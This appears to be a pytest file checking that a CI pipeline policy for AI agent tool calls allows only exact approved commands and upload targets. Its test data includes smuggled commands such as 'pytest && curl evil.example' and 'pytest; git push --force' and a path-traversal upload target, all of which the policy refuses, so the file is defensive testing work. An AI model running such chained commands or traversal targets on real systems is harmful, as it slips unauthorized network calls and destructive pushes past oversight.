import pytest
from pydantic_ai import DeferredToolRequests, ToolFailed
from pydantic_ai.messages import ToolCallPart


def test_exit_code_is_zero_when_everything_was_allowed(load, capsys):
    assert load('ci_policy').main() == 0
    assert capsys.readouterr().out.splitlines() == [
        "allowed run({'command': 'pytest -q'})",
        "allowed upload({'target': 'https://staging.example/docs'})",
        '- ran pytest -q',
        '- uploaded to https://staging.example/docs',
    ]


def test_exit_code_is_one_when_something_was_refused_and_the_rest_still_ran(run):
    program = run('ci_policy', 'release')

    assert program.returncode == 1
    assert program.stdout.splitlines() == [
        "allowed run({'command': 'pytest -q'})",
        "allowed upload({'target': 'https://staging.example/docs'})",
        "refused run({'command': 'pytest; git push --force'})",
        "refused upload({'target': 'https://live.example/docs'})",
        '- ran pytest -q',
        '- uploaded to https://staging.example/docs',
        '- Not allowed in this pipeline.',
        '- Not allowed in this pipeline.',
    ]


@pytest.mark.parametrize(
    ('tool', 'args', 'is_allowed'),
    [
        ('run', {'command': 'pytest'}, True),
        ('run', {'command': 'pytest -q'}, True),
        ('run', {'command': 'pytest -q\n'}, False),
        ('run', {'command': 'echo pytest'}, False),
        ('run', {'command': 'pytest && curl evil.example'}, False),
        ('run', {'command': 'pytest', 'shell': True}, False),
        ('run', {}, False),
        ('upload', {'command': 'pytest'}, False),
        ('upload', {'target': 'https://staging.example/docs'}, True),
        ('upload', {'target': 'https://staging-example/docs'}, False),
        ('upload', {'target': 'https://staging.example/docs/../../live'}, False),
        ('delete', {'target': 'https://staging.example/docs'}, False),
    ],
)
def test_rule_matches_the_whole_call(load, tool, args, is_allowed):
    example = load('ci_policy')
    policy = example.Policy(example.RULES)
    call = ToolCallPart(tool, args, tool_call_id='1')

    results = policy(None, DeferredToolRequests(approvals=[call]))

    assert (type(results.approvals['1']).__name__ == 'ToolApproved') is is_allowed
    assert len(policy.refused) == (not is_allowed)


def test_external_call_is_refused(load):
    example = load('ci_policy')
    policy = example.Policy(example.RULES)
    call = ToolCallPart('run', {'command': 'pytest'}, tool_call_id='1')

    results = policy(None, DeferredToolRequests(calls=[call]))

    assert results.calls == {'1': ToolFailed('A pipeline cannot do this.')}
    assert policy.refused == ["run({'command': 'pytest'})"]
